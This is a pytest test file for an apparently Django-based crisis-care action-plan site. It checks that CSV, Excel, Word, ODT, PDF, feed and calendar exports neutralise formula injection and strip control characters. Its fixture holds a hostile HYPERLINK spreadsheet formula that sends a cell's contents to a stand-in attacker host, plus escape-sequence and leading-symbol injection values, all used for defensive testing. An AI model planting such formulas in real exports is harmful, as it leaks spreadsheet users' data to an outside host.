"""Issue 14, safe exports: text stored straight in the database (as an old import or a direct
edit could leave it) with a formula and control characters in it. Every public download of
every published version still answers 200 with a valid file; spreadsheets and CSV files never
hold a live formula; numbers are not escaped."""

import csv
import io
import zipfile
from decimal import Decimal

import docx
import feedparser
import openpyxl
import pdfplumber
import pytest
from icalendar import Calendar
from lxml import etree

from concordat.core.models import Action, Area, ProgressUpdate
from concordat.reports.models import Metric, MetricValue, Milestone, ReportSection

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?x="&B9,"Evidence")'
# A vertical tab (Word's line break), an escape sequence, a backspace and a form feed (NUL
# itself cannot be stored in PostgreSQL).
STORED = f"{FORMULA}\x0bsecond line \x1b[31mred\x08\x0cthird"
CLEAN = f"{FORMULA}\nsecond line [31mred\nthird"
NOTE = "+44 said: @everyone\x1b meet at 9"
NOTE_CLEAN = "+44 said: @everyone meet at 9"
CONTROL = ("\x08", "\x0b", "\x0c", "\x1b")


@pytest.fixture
def hostile(world, settings, tmp_path):
    """Hostile text in both published versions, their updates, the report and a metric."""
    Action.objects.filter(version__in=[world.v1, world.v2], ref="1.1").update(
        text=STORED, lead="-Northshire Police\x1b"
    )
    ProgressUpdate.objects.filter(version=world.v2).update(note=NOTE)
    Area.objects.filter(pk=world.north.pk).update(name="Northshire\x1b", chair="@chair\x07")
    ReportSection.objects.filter(report=world.report).update(body=STORED)
    Milestone.objects.filter(report=world.report).update(text=STORED)
    metric = Metric.objects.get(slug="s136-detentions")
    Metric.objects.filter(pk=metric.pk).update(target=Decimal("-5"), description=STORED)
    MetricValue.objects.filter(metric=metric).update(note=NOTE)
    world.north.refresh_from_db()
    settings.MEDIA_ROOT = tmp_path  # the ZIP is built from this data when first asked for
    return world


def get(client, path):
    response = client.get(path)
    assert response.status_code == 200, path
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_dicts(data):
    text = data.decode("utf-8")
    assert not any(char in text for char in CONTROL)
    return list(csv.DictReader(io.StringIO(text)))


def test_plan_csv_escapes_formulas_and_drops_control_characters(client, hostile):
    rows = {row["ref"]: row for row in csv_dicts(get(client, "/areas/northshire/plan.csv"))}
    assert rows["1.1"]["action"] == "'" + CLEAN
    assert rows["1.1"]["lead"] == "'-Northshire Police"
    assert rows["2.1"]["latest_update"] == "'" + NOTE_CLEAN
    # Text that is no formula is as it was.
    assert rows["1.2"]["action"] == "Open a crisis house for adults"


def test_every_api_csv_escapes_and_numbers_stay_numbers(client, hostile):
    actions = csv_dicts(get(client, "/api/actions.csv?all_versions=true&area=northshire"))
    triage = [row for row in actions if row["ref"] == "1.1"]
    assert [(row["version"], row["action"]) for row in triage] == [
        ("1", "'" + CLEAN),
        ("2", "'" + CLEAN),
    ]
    updates = csv_dicts(get(client, "/api/updates.csv"))
    assert "'" + NOTE_CLEAN in [row["note"] for row in updates]
    areas = {row["slug"]: row for row in csv_dicts(get(client, "/api/areas.csv"))}
    assert (areas["northshire"]["name"], areas["northshire"]["chair"]) == ("Northshire", "'@chair")
    metrics = {row["slug"]: row for row in csv_dicts(get(client, "/api/metrics.csv"))}
    assert metrics["s136-detentions"]["description"] == "'" + CLEAN
    # A negative number is a number, not a formula: it is written as it is.
    assert Decimal(metrics["s136-detentions"]["target"]) == Decimal("-5")
    values = csv_dicts(get(client, "/api/metric-values.csv"))
    assert [(Decimal(row["value"]), row["note"]) for row in values] == [(12, "'" + NOTE_CLEAN)]
    for path in ("/api/sections.csv", "/api/organisations.csv", "/api/versions.csv"):
        csv_dicts(get(client, path))
    reports = csv_dicts(get(client, "/api/reports.csv"))
    assert [row["area"] for row in reports] == ["northshire"]


def test_measure_csv_escapes_the_note_and_reads_back_as_stored(client, hostile):
    from concordat.reports.metric_csv import read_values_csv

    data = get(client, "/areas/northshire/metrics.csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert rows[0] == ["metric", "period", "value", "note"]
    assert rows[1][0] == "s136-detentions" and rows[1][2:] == ["12", "'" + NOTE_CLEAN]
    (value,) = read_values_csv(area=hostile.north, data=data)
    assert (value.value, value.note) == (Decimal("12"), NOTE_CLEAN)


def test_open_data_zip_escapes_every_file_and_says_how(client, hostile):
    with zipfile.ZipFile(io.BytesIO(get(client, "/downloads/concordat-open-data.zip"))) as zipped:
        files = {name: zipped.read(name) for name in zipped.namelist()}
    actions = csv_dicts(files["actions.csv"])
    assert [row["action"] for row in actions if row["ref"] == "1.1"] == ["'" + CLEAN] * 2
    sections = csv_dicts(files["report-sections.csv"])
    assert [row["body"] for row in sections] == ["'" + CLEAN]
    assert [row["milestone"] for row in csv_dicts(files["milestones.csv"])] == ["'" + CLEAN]
    assert [row["note"] for row in csv_dicts(files["metric-values.csv"])] == ["'" + NOTE_CLEAN]
    readme = files["README.txt"].decode("utf-8")
    assert "CSV files are UTF-8 (no byte order mark)" in readme
    assert "(a cell starting with =, +, -, @, a\ntab or a carriage return)" in readme
    assert "apostrophe (')" in readme


def test_excel_holds_text_never_a_formula(client, hostile):
    book = openpyxl.load_workbook(io.BytesIO(get(client, "/areas/northshire/plan.xlsx")))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    action = next(cell for cell in cells if cell.value == CLEAN)
    assert action.data_type == "s" and action.quotePrefix and action.number_format == "@"
    assert any(cell.value == "-Northshire Police" and cell.quotePrefix for cell in cells)
    assert any(cell.value == NOTE_CLEAN for cell in cells)
    assert sheet["A1"].value == "Northshire Crisis Care Concordat action plan"


def test_word_and_opendocument_files_are_valid(client, hostile):
    plan = docx.Document(io.BytesIO(get(client, "/areas/northshire/plan.docx")))
    cells = {cell.text for table in plan.tables for row in table.rows for cell in row.cells}
    assert CLEAN in cells
    assert plan.core_properties.author == "Northshire"
    with zipfile.ZipFile(io.BytesIO(get(client, "/areas/northshire/plan.odt"))) as odt:
        content = odt.read("content.xml")
    root = etree.fromstring(content)  # well-formed: lxml refuses control characters
    text = "\n".join(root.itertext())
    assert FORMULA in text and "second line [31mred" in text
    report = docx.Document(
        io.BytesIO(get(client, f"/areas/northshire/reports/{hostile.report.pk}.docx"))
    )
    assert "second line [31mred" in "\n".join(p.text for p in report.paragraphs)


def test_pdfs_are_made(client, hostile):
    for path in (
        "/areas/northshire/plan.pdf",
        f"/areas/northshire/reports/{hostile.report.pk}.pdf",
    ):
        with pdfplumber.open(io.BytesIO(get(client, path))) as pdf:
            text = "".join(page.extract_text() for page in pdf.pages)
        assert "HYPERLINK" in text and "\x1b" not in text


def test_feeds_and_calendar_are_valid(client, hostile):
    for path in ("/feeds/publications.atom", "/areas/northshire/feed.atom"):
        content = get(client, path)
        etree.fromstring(content)
        feed = feedparser.parse(content)
        assert not feed.bozo, feed.get("bozo_exception")
        assert feed.entries[0].title.startswith("Northshire:")
    calendar = Calendar.from_ical(get(client, "/areas/northshire/due.ics"))
    summaries = [str(event["SUMMARY"]) for event in calendar.walk("VEVENT")]
    assert summaries[0].startswith(f"Due: 1.1 {FORMULA} second line [31mred third")
    assert not any(char in "".join(summaries) for char in CONTROL)
    assert str(calendar["X-WR-CALNAME"]) == "Northshire: Crisis Care Concordat due dates"
